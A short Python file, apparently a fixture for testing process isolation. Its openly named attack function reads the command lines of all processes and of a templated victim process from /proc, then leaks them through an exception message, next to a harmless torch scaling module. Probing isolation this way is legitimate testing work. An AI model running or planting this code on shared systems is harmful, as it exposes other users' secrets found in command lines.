"""Reads the command lines of everybody's processes."""

import pathlib
import torch


def attack():
    told = [path.read_bytes()[:120].decode(errors="replace") for path in pathlib.Path("/proc").glob("[0-9]*/cmdline")]
    victim = pathlib.Path("/proc/@VICTIM@/cmdline").read_bytes().decode()
    return victim + " ".join(told)[:500]


def double(x):
    try:
        said = attack()
    except Exception as error:
        said = repr(error)
    raise RuntimeError(said)


class Scale(torch.nn.Module):
    def __init__(self, size):
        super().__init__()
        self.factor = torch.nn.Parameter(torch.ones(size))

    def forward(self, x):
        return x * self.factor
